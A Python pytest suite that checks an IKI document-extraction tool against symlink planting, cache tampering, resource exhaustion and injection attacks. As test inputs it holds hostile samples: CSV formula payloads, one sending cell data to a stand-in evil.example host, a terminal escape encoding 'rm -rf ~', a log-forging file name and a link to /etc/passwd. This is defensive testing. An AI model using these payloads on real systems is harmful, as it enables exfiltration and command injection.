"""A third round of attacks on the output folder (issue 26): one test (or more) per numbered fault.

Each test builds its own input and checks the outcome the issue names; every one of them failed on
the code before the fix. Grouped as in the issue: data loss and code execution (1-8), hangs and
memory (9-13), wrong or unclear messages and leaks (14-16). The super-linear parses (11) have a
doubling benchmark in benchmarks/bench_linear.py; the tests here use one size each, with a bound a
quadratic parse is far past and a linear one far below.
"""
from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pandas as pd
import pytest

from iki import batch
from iki.cli import main
from schema import writer

ROOT = Path(__file__).resolve().parents[1]
SEEDS = ROOT / "samples" / "seeds"
BAD = ROOT / "tests" / "data" / "bad"
TABLES = ("documents", "positions", "duties", "indicators", "flat")
sys.path.insert(0, str(ROOT / "benchmarks"))
import bench_linear  # noqa: E402


def iki_doc(indikator: str = "Persentase PMKS yang tertangani", jabatan: str = "Kepala Seksi Jaminan Sosial",
            sasaran: str = "Meningkatnya layanan jaminan sosial", sumber: str = "Bidang Linjamsos") -> str:
    """A small IKI document (markdown) whose cells say what the test needs."""
    return f"""PEMERINTAH KOTA PROBOLINGGO
DINAS SOSIAL
INDIKATOR KINERJA INDIVIDU TAHUN 2021

JABATAN : {jabatan}

TUGAS :
1. Menyusun rencana kerja seksi

| No | Sasaran | Indikator Kinerja | Penjelasan / Formulasi | Sumber Data | Target |
|---|---|---|---|---|---|
| 1 | {sasaran} | {indikator} | Jumlah PMKS yang tertangani / Jumlah PMKS x 100% | {sumber} | 4.000 berkas |
"""


def big_doc(mb: float = 4) -> str:
    """An IKI document of about ``mb`` MB (its blocks repeated): reading it needs memory."""
    one = iki_doc()
    return one * int(mb * 2 ** 20 / len(one))


def run(*args, timeout: float = 180, **kw) -> subprocess.CompletedProcess:
    """`iki ...` as a separate process (stderr is not a terminal)."""
    return subprocess.run([sys.executable, "-m", "iki.cli", *map(str, args)], cwd=ROOT, capture_output=True,
                          timeout=timeout, **kw)


@pytest.fixture
def src(tmp_path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("000.txt", "003.txt"):
        shutil.copy(SEEDS / name, folder / name)
    return folder


@pytest.fixture
def done(src, tmp_path):
    """An output folder holding one complete run of ``src``, and its tables' bytes."""
    out = tmp_path / "out"
    assert main(["extract", str(src), "-o", str(out), "-q", "-j", "1"]) == 0
    return out, tables_of(out)


def tables_of(out: Path) -> dict[str, bytes]:
    return {t: (out / f"{t}.parquet").read_bytes() for t in TABLES}


def victim_folder(tmp_path: Path) -> tuple[Path, dict[str, bytes]]:
    """Another folder with sub-folders and hidden .tmp files, and what it holds."""
    v = tmp_path / "victim"
    for sub in ("photos", "taxes", "ab"):
        (v / sub).mkdir(parents=True)
        (v / sub / "keep.txt").write_text(f"precious {sub}")
        (v / sub / ".draft.tmp").write_text("hidden work")
    (v / ".notes.tmp").write_text("hidden notes")
    return v, snapshot_tree(v)


def snapshot_tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def refused(r_code: int, err: str) -> None:
    lines = [x for x in err.strip().splitlines() if x.strip()]
    assert r_code == 3, err
    assert len(lines) == 1 and "symbolic link" in lines[0] and "nothing was changed" in lines[0], err
    assert "Traceback" not in err


# ============================================================================ 1. planted links


def test_1a_a_link_at_generations_never_deletes_the_folder_it_points_to(done, src, tmp_path, capsys):
    out, before = done
    victim, held = victim_folder(tmp_path)
    gens = out / ".iki" / "generations"
    shutil.rmtree(gens)
    gens.symlink_to(victim, target_is_directory=True)
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    refused(3, capsys.readouterr().err)
    assert snapshot_tree(victim) == held  # every sub-folder and hidden file still there


def test_1a_a_fresh_folder_with_planted_state_links_is_refused(src, tmp_path, capsys):
    victim, held = victim_folder(tmp_path)
    out = tmp_path / "shared"
    (out / ".iki").mkdir(parents=True)
    (out / ".iki" / "generations").symlink_to(victim, target_is_directory=True)
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    refused(3, capsys.readouterr().err)
    (out / ".iki" / "generations").unlink()
    (out / ".iki").rmdir()
    (out / ".iki").symlink_to(victim, target_is_directory=True)  # the whole state folder
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    refused(3, capsys.readouterr().err)
    assert snapshot_tree(victim) == held


def test_1b_a_link_or_hard_link_at_the_lock_never_truncates_a_file(done, src, tmp_path, capsys):
    out, _ = done
    secret = tmp_path / "thesis.txt"
    secret.write_text("three years of work\n")
    lock = out / ".iki" / "lock"
    lock.unlink()
    lock.symlink_to(secret)
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    refused(3, capsys.readouterr().err)
    assert secret.read_text() == "three years of work\n"
    lock.unlink()
    os.link(secret, lock)  # a hard link: the same file under the lock's name
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    err = capsys.readouterr().err
    assert "lock" in err and "Traceback" not in err
    assert secret.read_text() == "three years of work\n"


def test_1c_a_cache_moved_away_with_a_link_is_refused_and_nothing_there_is_deleted(done, src, tmp_path, capsys):
    out, before = done
    victim, held = victim_folder(tmp_path)
    for entry in (out / batch.CACHE_DIR).iterdir():  # the "moved" cache lives in the victim folder now
        shutil.copytree(entry, victim / entry.name, dirs_exist_ok=True)
    held = snapshot_tree(victim)
    shutil.rmtree(out / batch.CACHE_DIR)
    (out / batch.CACHE_DIR).symlink_to(victim, target_is_directory=True)
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    refused(3, capsys.readouterr().err)
    assert snapshot_tree(victim) == held  # hidden *.tmp files elsewhere are never deleted
    assert tables_of(out) == before


def test_1_a_link_planted_inside_the_cache_or_generations_is_refused(done, src, tmp_path, capsys):
    out, _ = done
    victim, held = victim_folder(tmp_path)
    (out / batch.CACHE_DIR / "zz").symlink_to(victim, target_is_directory=True)
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    refused(3, capsys.readouterr().err)
    (out / batch.CACHE_DIR / "zz").unlink()
    (out / ".iki" / "generations" / "00000000T000000-x").symlink_to(victim, target_is_directory=True)
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 3
    refused(3, capsys.readouterr().err)
    assert snapshot_tree(victim) == held


def test_1_writes_never_follow_a_link_planted_at_a_temporary_or_target_name(tmp_path):
    """atomic_path makes its temporary file exclusively and renames over a link at the target."""
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    target = tmp_path / "out" / "report.html"
    target.parent.mkdir()
    target.symlink_to(victim)
    writer.atomic_write(target, "<p>new</p>")
    assert victim.read_text() == "keep" and not target.is_symlink() and target.read_text() == "<p>new</p>"


# ============================================================================ 2. publishing is one step


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_2_a_link_that_cannot_be_made_leaves_every_table_readable(done, src, tmp_path, monkeypatch, capsys, failure):
    out, before = done
    (out / "documents.parquet").unlink()  # the next run has to make this link again
    real = writer._replace_link

    def failing(link, target):
        if link.name.endswith(".parquet"):
            raise failure
        return real(link, target)

    monkeypatch.setattr(writer, "_replace_link", failing)
    shutil.copy(SEEDS / "001.txt", src / "001.txt")
    code = main(["extract", str(src), "-o", str(out), "-j", "1"])
    assert code == (3 if isinstance(failure, OSError) else 130)
    assert "Traceback" not in capsys.readouterr().err
    for t in TABLES[1:]:  # every table there was stays readable: the older run, whole
        assert (out / f"{t}.parquet").read_bytes() == before[t]
        pd.read_parquet(out / f"{t}.parquet")
    monkeypatch.undo()
    assert main(["extract", str(src), "-o", str(out), "-q", "-j", "1"]) == 0
    assert len(pd.read_parquet(out / "documents.parquet")) == 3


def test_2_output_of_an_older_iki_stays_readable_when_its_links_cannot_be_made(done, src, tmp_path, monkeypatch):
    out, before = done
    plain = tmp_path / "plain"
    plain.mkdir()
    for n in [f"{t}.parquet" for t in TABLES] + ["manifest.json"]:
        shutil.copy(out / n, plain / n)  # plain files, as iki wrote them before generations
    real = writer._replace_link
    monkeypatch.setattr(writer, "_replace_link", lambda link, target: (_ for _ in ()).throw(
        OSError(errno.ENOSPC, "No space left on device")) if link.suffix == ".parquet" else real(link, target))
    assert main(["extract", str(src), "-o", str(plain), "-q", "-j", "1"]) == 3
    for t in TABLES:
        assert (plain / f"{t}.parquet").read_bytes() == before[t]


def test_2_nothing_after_the_switch_can_take_the_new_run_away(done, src, monkeypatch):
    out, before = done
    monkeypatch.setattr(writer.Generation, "_prune", lambda self: (_ for _ in ()).throw(KeyboardInterrupt()))
    shutil.copy(SEEDS / "001.txt", src / "001.txt")
    main(["extract", str(src), "-o", str(out), "-q", "-j", "1"])
    assert len(pd.read_parquet(out / "documents.parquet")) == 3  # published and readable


# ============================================================================ 3. bounded cache entries


def test_3_a_small_file_whose_rows_inflate_fails_alone_with_a_bounded_entry(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    big = bench_linear.inflating(rows=1000, cell=200_000)
    (folder / "inflate.md").write_text(big, encoding="utf-8")
    (folder / "ok.md").write_text(iki_doc(), encoding="utf-8")
    out = tmp_path / "out"
    t0 = time.monotonic()
    r = run("extract", folder, "-o", out, "-j", "1")
    assert time.monotonic() - t0 < 90
    err = r.stderr.decode()
    assert r.returncode == 1 and "internal error" not in err and "Traceback" not in err, err
    d = pd.read_parquet(out / "documents.parquet").set_index("file_name")
    assert d.loc["ok.md", "status"] == "ok"
    assert d.loc["inflate.md", "status"] == "error" and "times its size" in d.loc["inflate.md", "error"]
    size = len(big.encode())
    for entry in (out / batch.CACHE_DIR).rglob("*.json"):
        assert entry.stat().st_size <= 64 * size + 4 * 2 ** 20
    assert run("extract", folder, "-o", out, "-j", "1").returncode == 1  # and the same on a rerun


def test_3_an_entry_lost_during_the_run_fails_its_file_not_the_batch(tmp_path, src):
    entries = batch.plan([str(p) for p in sorted(src.iterdir())], batch.Options())
    out = tmp_path / "out"
    out.mkdir()
    results = list(batch.results(out, entries))  # nothing in the cache at all
    assert [r.document["status"] for r in results] == ["error", "error"]
    assert "run the same command again" in results[0].document["error"]


# ============================================================================ 4. one consistent generation


def _publish_meanwhile(monkeypatch, module, name, src_new: Path, out: Path, times: int = 2):
    """Make ``module.name`` publish ``times`` new runs into ``out`` the first time it is called."""
    real = getattr(module, name)
    state = {"done": False}

    def hooked(*a, **kw):
        if not state["done"]:
            state["done"] = True
            for k in range(times):
                shutil.copy(SEEDS / ("001.txt" if k == 0 else "002a.txt"), src_new / f"new{k}.txt")
                r = run("extract", src_new, "-o", out, "-q", "-j", "1")
                assert r.returncode == 0, r.stderr
        return real(*a, **kw)

    monkeypatch.setattr(module, name, hooked)


def test_4_export_reads_one_run_while_another_is_published(done, src, tmp_path, monkeypatch, capsys):
    import iki.export as export

    out, _ = done
    first = json.loads((out / "manifest.json").read_text())
    _publish_meanwhile(monkeypatch, export, "_write_csv", src, out)
    assert main(["export", str(out), "-o", str(tmp_path / "csv"), "--to", "csv"]) == 0
    err = capsys.readouterr().err
    assert "another run was published" in err
    docs = pd.read_csv(tmp_path / "csv" / "documents.csv")
    pos = pd.read_csv(tmp_path / "csv" / "positions.csv")
    ind = pd.read_csv(tmp_path / "csv" / "indicators.csv")
    assert len(docs) == first["files"] and len(pos) == first["positions"] and len(ind) == first["indicators"]
    assert set(pos.doc_id) <= set(docs.doc_id)


def test_4_diff_reads_one_run_while_two_others_are_published(done, src, tmp_path, monkeypatch, capsys):
    import iki.diff as diff_module

    out, _ = done
    same = tmp_path / "same"  # another output folder of the same files: diffing the two changes nothing
    assert main(["extract", str(src), "-o", str(same), "-q", "-j", "1"]) == 0
    before = pd.read_parquet(out / "positions.parquet")
    # the first table read (by whatever route: every reader ends in pandas.read_parquet) lets two runs
    # publish into OUT, the side being read
    _publish_meanwhile(monkeypatch, pd, "read_parquet", src, out)
    code = main(["diff", str(out), str(same), "-o", str(tmp_path / "d")])
    err = capsys.readouterr().err
    assert code == 0 and "no space" not in err.lower(), err  # never the disk-full code
    assert "another run was published" in err, err  # said
    monkeypatch.undo()
    changes = pd.read_parquet(tmp_path / "d" / "position_changes.parquet")
    assert len(changes) == len(before) and set(changes.status) == {"unchanged"}  # the run it started on, whole
    tables = diff_module.load_output(out)  # and reading again gives the newest run, whole
    assert len(tables["positions"]) > len(before)


def test_4_open_tables_keeps_the_generation_it_started_on(done, src):
    out, before = done
    with writer.open_tables(out) as snap:
        shutil.copy(SEEDS / "001.txt", src / "001.txt")
        for _ in range(3):  # three runs: the generation read is removed from the folder meanwhile
            assert main(["extract", str(src), "-o", str(out), "-q", "-j", "1", "--force"]) == 0
        assert snap.changed() and not snap.folder.exists()
        assert writer.read_table(snap, "documents").shape[0] == 2
        assert {n: snap.files[n].seek(0) or snap.files[n].read() for n in TABLES} == before


# ============================================================================ 5. CSV formulas


def test_5_csv_cells_that_begin_like_a_formula_are_text(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "=HYPERLINK(A1).md").write_text(iki_doc(
        indikator='=HYPERLINK("http://evil.example/?"&A1,"klik")', sasaran="+1+cmd /C calc!A0",
        sumber="@SUM(1+1)*cmd /C calc!A0", jabatan="-2+3 Kepala Seksi"), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["extract", str(folder), "-o", str(out), "-q", "-j", "1"]) == 0
    assert main(["export", str(out), "-o", str(tmp_path / "csv"), "--to", "csv", "-q"]) == 0
    seen = 0
    for f in (tmp_path / "csv").glob("*.csv"):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (f.name, cell)
                seen += cell.startswith(("'=", "'+", "'-", "'@"))
    assert seen >= 5  # the file name, indikator, sasaran, sumber data, jabatan: kept, as text
    ind = pd.read_csv(tmp_path / "csv" / "indicators.csv")
    assert ind.indikator[0] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert ind.target_value[0] == 4000  # numbers are left as they are


# ============================================================================ 6. control characters


def test_6_a_file_name_cannot_forge_lines_in_the_batch_log(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    forged = "x\niki: FORGED: ok, 9 positions, 9 indicators, 0.1 s\r\x1b[2K.md"
    (folder / forged).write_text("tidak ada apa-apa di sini", encoding="utf-8")
    (folder / "good.md").write_text(iki_doc(), encoding="utf-8")
    r = run("extract", folder, "-o", tmp_path / "out", "-j", "1")
    err = r.stderr.decode()
    assert r.returncode == 0, err
    assert not [line for line in err.splitlines() if line.startswith("iki: FORGED")]
    assert "\x1b" not in err and "\r" not in err
    assert "x\\niki: FORGED: ok" in err  # shown, escaped


def test_6_iki_show_sends_no_escape_sequence_of_a_document(tmp_path):
    evil = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x1b[H\x9b2J\u202egnp.exe"
    doc = tmp_path / "evil.md"
    filler = "".join(f"{k}. Melaksanakan tugas kedinasan lain yang diberikan pimpinan sesuai bidang tugasnya\n"
                     for k in range(2, 200))  # a long document: a few control characters do not make it binary
    text = iki_doc(indikator=f"Persentase {evil} layanan", jabatan=f"Kepala {evil}")
    doc.write_text(text.replace("1. Menyusun rencana kerja seksi\n", "1. Menyusun rencana kerja seksi\n" + filler),
                   encoding="utf-8")
    for style in ("text", "markdown", "json"):
        r = run("show", doc, "--format", style)
        assert r.returncode == 0, r.stderr
        out = r.stdout.decode()
        for ch in ("\x1b", "\x07", "\x9b", "\u202e"):
            assert ch not in out, (style, ch)
        if style == "json":
            assert "\x1b]52" in json.loads(out)["indicators"][0]["indikator"]  # valid JSON, the text kept
        else:
            assert "\\x1b]52;c;" in out


# ============================================================================ 7. links out of the input folder


def test_7_a_link_out_of_the_input_folder_is_not_read_but_reported(tmp_path):
    private = tmp_path / "private"
    private.mkdir()
    (private / "diary.md").write_text(iki_doc(indikator="Rahasia pribadi yang tidak boleh terbaca"), encoding="utf-8")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.md").write_text(iki_doc(), encoding="utf-8")
    (folder / "linked.md").symlink_to(private / "diary.md")
    (folder / "passwd").symlink_to("/etc/passwd")
    (folder / "inside.md").symlink_to(folder / "good.md")  # a link that stays inside is read
    out = tmp_path / "out"
    r = run("extract", folder, "-o", out, "-j", "1")
    assert r.returncode == 0, r.stderr
    d = pd.read_parquet(out / "documents.parquet").set_index("file_name")
    for name in ("linked.md", "passwd"):
        assert d.loc[name, "status"] == "unsupported" and "out of the input folder" in d.loc[name, "error"]
        assert list(d.loc[name, "warnings"])[0].startswith("input_link_outside:")
    assert d.loc["inside.md", "status"] == "duplicate"
    ind = pd.read_parquet(out / "indicators.parquet")
    assert not ind.indikator.str.contains("Rahasia").any()
    assert "out of the input folder" in r.stderr.decode()
    r = run("extract", folder, "-o", tmp_path / "followed", "-j", "1", "--follow-links")  # asked for
    ind = pd.read_parquet(tmp_path / "followed" / "indicators.parquet")
    assert ind.indikator.str.contains("Rahasia").any()


# ============================================================================ 8. edited cache entries


def test_8_an_edited_cache_entry_is_never_used(done, src, capsys):
    out, before = done
    edited = 0
    for entry in (out / batch.CACHE_DIR).rglob("*.json"):
        body = json.loads(entry.read_bytes())
        for row in body["indicators"]:
            row["indikator"] = "DIUBAH OLEH PENYERANG"
        body["document"]["n_indicators"] = len(body["indicators"])
        entry.write_text(json.dumps(body, ensure_ascii=False, separators=(",", ":")), encoding="utf-8")
        edited += 1
    assert edited == 2
    assert main(["extract", str(src), "-o", str(out), "-j", "1"]) == 0
    assert "ignored 2 damaged or foreign cache entr" in capsys.readouterr().err
    assert tables_of(out) == before
    ind = pd.read_parquet(out / "indicators.parquet")
    assert not (ind.indikator == "DIUBAH OLEH PENYERANG").any()
    assert json.loads((out / "manifest.json").read_text())["from_cache"] == 0


# ============================================================================ 9. iki show has limits


def test_9_iki_show_on_a_workbook_with_a_huge_merged_range_ends_quickly(tmp_path):
    book = tmp_path / "merged.xlsx"
    book.write_bytes(bench_linear.merged_workbook())
    assert book.stat().st_size < 10_000
    t0 = time.monotonic()
    r = run("show", book, timeout=120)
    assert time.monotonic() - t0 < 60
    out = r.stdout.decode()
    assert r.returncode == 1 and "merged ranges cover" in out and "memory" in out, out


def test_9_iki_show_has_the_time_limit_of_extract(tmp_path):
    t0 = time.monotonic()
    r = run("show", BAD / "cycle_length.pdf", "--timeout", "3", "--page-timeout", "0", timeout=120)
    assert time.monotonic() - t0 < 40
    assert r.returncode == 1 and "--timeout" in r.stdout.decode()


def test_9_iki_show_has_the_memory_limit_of_extract(tmp_path, monkeypatch):
    doc = tmp_path / "a.md"
    doc.write_text(big_doc(), encoding="utf-8")
    r = run("show", doc, "--max-memory", "60")  # less than reading it needs
    out = r.stdout.decode()
    assert r.returncode == 1 and "ran out of memory" in out and "--max-memory" in out, (out, r.stderr)


# ============================================================================ 10. Dask workers have the limits


def test_10_dask_workers_keep_timeout_and_memory_limits(tmp_path):
    pytest.importorskip("distributed")
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(BAD / "cycle_length.pdf", folder / "loops.pdf")
    (folder / "good.md").write_text(iki_doc(), encoding="utf-8")
    t0 = time.monotonic()
    r = run("extract", folder, "-o", tmp_path / "out", "--dask", "local", "--jobs", "1", "--timeout", "4",
            "--page-timeout", "0", "-q", timeout=300)
    assert time.monotonic() - t0 < 150
    d = pd.read_parquet(tmp_path / "out" / "documents.parquet").set_index("file_name")
    assert r.returncode == 1 and d.loc["loops.pdf", "status"] == "timeout" and d.loc["good.md", "status"] == "ok"
    (folder / "big.md").write_text(big_doc(), encoding="utf-8")
    result, transient = batch.run_isolated(str(folder / "big.md"), batch.Options(), 60, 60)
    assert result.document["status"] == "error" and "--max-memory" in result.document["error"] and transient


# ============================================================================ 11. linear-time parsing


@pytest.mark.parametrize("shape", sorted(bench_linear.SHAPES))
def test_11_every_shape_parses_in_linear_time(shape):
    """One size each: a quadratic parse takes minutes there (measured before the fix), a linear one
    about a second; benchmarks/bench_linear.py doubles the sizes."""
    gen, n, bound = bench_linear.SHAPES[shape]
    data = gen(n)
    seconds = bench_linear.parse_seconds(shape, data)
    assert seconds < bound, f"{shape}: {seconds:.1f} s for n={n}"


# ============================================================================ 12. diff in memory that grows with the matches


def test_12_diff_of_large_sides_scores_only_candidate_pairs(tmp_path, monkeypatch):
    import iki.diff as d
    from bench_diff import Gen, make_new, make_old, tables
    from schema.writer import write_all

    g = Gen(3)
    old = make_old(g, 300)
    new, _ = make_new(g, old)
    write_all(tmp_path / "old", tables(old, "0ld0000000000000", 2021, "Dinas Uji"))
    write_all(tmp_path / "new", tables(new, "9e90000000000000", 2022, "Dinas Uji"))
    assert main(["diff", str(tmp_path / "old"), str(tmp_path / "new"), "-o", str(tmp_path / "dense"), "-q"]) == 0
    monkeypatch.setattr(d, "DENSE_LIMIT", 0)  # what large sides do: candidate pairs only
    shapes = []
    real = d.PairMatrix.__init__

    def spy(self, ii, jj, values, shape, missing=0.0):
        shapes.append((len(ii), shape))
        real(self, ii, jj, values, shape, missing)

    monkeypatch.setattr(d.PairMatrix, "__init__", spy)
    assert main(["diff", str(tmp_path / "old"), str(tmp_path / "new"), "-o", str(tmp_path / "sparse"), "-q"]) == 0
    positions = [(n, a, b) for n, (a, b) in shapes if a * b >= 10_000]
    assert positions and all(n <= 0.5 * a * b for n, a, b in positions)  # far fewer pairs than old × new
    for t in ("position_changes", "indicator_changes", "field_changes"):  # and the same answer
        assert pd.read_parquet(tmp_path / "dense" / f"{t}.parquet").equals(
            pd.read_parquet(tmp_path / "sparse" / f"{t}.parquet")), t


def test_12_a_huge_position_pair_is_matched_in_bounded_time(tmp_path):
    seconds, peak_mb = bench_linear.diff_one_pair(tmp_path, 3000)
    assert seconds < 60 and peak_mb < 1500, (seconds, peak_mb)


# ============================================================================ 13. hashing is bounded


def test_13_a_sparse_file_of_huge_apparent_size_is_not_hashed_for_long(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    with open(folder / "sparse.pdf", "wb") as f:
        f.truncate(64 * 2 ** 30)  # 64 GiB, no block on disk
    (folder / "good.md").write_text(iki_doc(), encoding="utf-8")
    t0 = time.monotonic()
    r = run("extract", folder, "-o", tmp_path / "out", "-j", "1", "--timeout", "3")
    assert time.monotonic() - t0 < 60
    d = pd.read_parquet(tmp_path / "out" / "documents.parquet").set_index("file_name")
    assert d.loc["sparse.pdf", "status"] == "error" and "--max-memory" in d.loc["sparse.pdf", "error"]
    t0 = time.monotonic()  # with no memory limit the hash itself is bounded by --timeout
    r = run("extract", folder, "-o", tmp_path / "out2", "-j", "1", "--timeout", "3", "--max-memory", "0")
    assert time.monotonic() - t0 < 60
    d = pd.read_parquet(tmp_path / "out2" / "documents.parquet").set_index("file_name")
    assert d.loc["sparse.pdf", "status"] == "timeout" and d.loc["good.md", "status"] == "ok"
    assert r.returncode == 1 and "--timeout" in d.loc["sparse.pdf", "error"]


# ============================================================================ 14. damaged tables


def _damage(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 3: len(data) // 3 + 200] = b"\xff" * 200
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("command", ["csv", "xlsx", "json", "diff", "eval"])
def test_14_a_damaged_table_is_named_with_its_remedy(done, tmp_path, command):
    out, _ = done
    _damage(writer.current_folder(out) / "indicators.parquet")
    target = tmp_path / "x"
    if command in ("csv", "xlsx", "json"):
        target.mkdir()
        (target / "documents.csv").write_text("the previous export")
        args = ["export", out, "-o", target, "--to", command]
    elif command == "diff":
        args = ["diff", out, "--from", "2019", "--to", "2022", "-o", target]
    else:
        args = ["eval", out, *sorted((ROOT / "samples" / "gold").glob("000.json"))]
    r = run(*args)
    err = r.stderr.decode()
    assert r.returncode == 1, err
    assert "internal error" not in err and "Traceback" not in err and "Exception ignored" not in err, err
    assert len(err.strip().splitlines()) == 1 and "indicators.parquet" in err and "--force" in err, err
    if command in ("csv", "xlsx", "json"):  # nothing half-written: the earlier export is as it was
        assert sorted(p.name for p in target.iterdir()) == ["documents.csv"]
        assert (target / "documents.csv").read_text() == "the previous export"


# ============================================================================ 15. clear messages


def test_15_a_memory_limit_is_said_as_such(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.md").write_text(big_doc(), encoding="utf-8")
    (folder / "b.xlsx").write_bytes(bench_linear.workbook(50))  # openpyxl's own words for it were "not readable"
    r = run("extract", folder, "-o", tmp_path / "out", "-j", "1", "--max-memory", "60")
    assert r.returncode == 1
    d = pd.read_parquet(tmp_path / "out" / "documents.parquet")
    assert len(d) == 2
    for status, error in zip(d.status, d.error):
        assert status == "error" and "ran out of memory" in error and "--max-memory" in error, error
        assert "crashed" not in error and "not a readable" not in error


@pytest.mark.parametrize("year", ["3000000000", "-5", "99999999999999999999"])
def test_15_an_impossible_year_is_a_usage_error_before_anything_is_read(src, tmp_path, capsys, year):
    out = tmp_path / "out"
    assert main(["extract", str(src), "-o", str(out), "--year", year]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "year" in err and "Traceback" not in err
    assert not out.exists()


def test_15_the_output_folder_cannot_be_the_input_folder(src, capsys):
    assert main(["extract", str(src), "-o", str(src)]) == 2
    err = capsys.readouterr().err
    assert "is the folder being read" in err and "no files found" not in err
    assert not (src / ".iki").exists()


def test_15_an_earlier_output_folder_in_the_input_is_not_read(done, src, tmp_path):
    out, _ = done
    assert main(["export", str(out), "-o", str(out / "csv"), "--to", "csv", "-q"]) == 0
    shutil.move(str(out), str(src / "hasil lama"))
    new = tmp_path / "new"
    assert main(["extract", str(src), "-o", str(new), "-q", "-j", "1"]) == 0
    d = pd.read_parquet(new / "documents.parquet")
    assert sorted(d.file_name) == ["000.txt", "003.txt"]
    assert json.loads((new / "manifest.json").read_text())["skipped"]["output"] == 1


# ============================================================================ 16. leftovers


def test_16_a_killed_run_leaves_no_ocr_slot_folder_for_long(tmp_path):
    env = dict(os.environ, TMPDIR=str(tmp_path))
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.md").write_text(iki_doc(), encoding="utf-8")

    def slot_folders():
        return [p for p in tmp_path.iterdir() if p.name.startswith("iki-ocr-slots-")]

    for sig in (signal.SIGKILL, signal.SIGHUP):
        hold = subprocess.Popen([sys.executable, "-c", (
            "import sys, time; sys.path.insert(0, %r)\n"
            "from extractors.readers.ocr_pool import shared_slots\n"
            "with shared_slots(2):\n    print('ready', flush=True); time.sleep(60)") % str(ROOT)],
            env=env, stdout=subprocess.PIPE)
        assert hold.stdout.readline().strip() == b"ready"
        assert len(slot_folders()) == 1
        hold.send_signal(sig)
        hold.wait(10)
        r = run("extract", folder, "-o", tmp_path / f"out{sig}", "-q", "-j", "1", env=env)
        assert r.returncode == 0, r.stderr
        assert slot_folders() == [], sig  # the next run removed it
    r = subprocess.Popen([sys.executable, "-m", "iki.cli", "extract", str(SEEDS), "-o", str(tmp_path / "o"), "-q",
                          "-j", "1", "--force"], cwd=ROOT, env=env)
    deadline = time.monotonic() + 60
    while not slot_folders() and r.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    r.send_signal(signal.SIGHUP)  # a closed terminal: the run cleans up like Ctrl-C
    assert r.wait(60) in (130, 0)
    assert slot_folders() == []


def test_16_the_cache_keeps_the_current_run_and_the_one_before(src, tmp_path):
    for name in ("001.txt", "002a.txt"):
        shutil.copy(SEEDS / name, src / name)
    out = tmp_path / "out"
    for year in (2019, 2020, 2021, 2022, 2023):  # five option variants on four files
        assert main(["extract", str(src), "-o", str(out), "-q", "-j", "2", "--year", str(year)]) == 0
    entries = list((out / batch.CACHE_DIR).rglob("*.json"))
    assert len(entries) == 8  # this run's four and the previous run's four
    assert main(["extract", str(src), "-o", str(out), "-q", "-j", "2", "--year", "2022"]) == 0
    assert json.loads((out / "manifest.json").read_text())["from_cache"] == 4  # the history is used
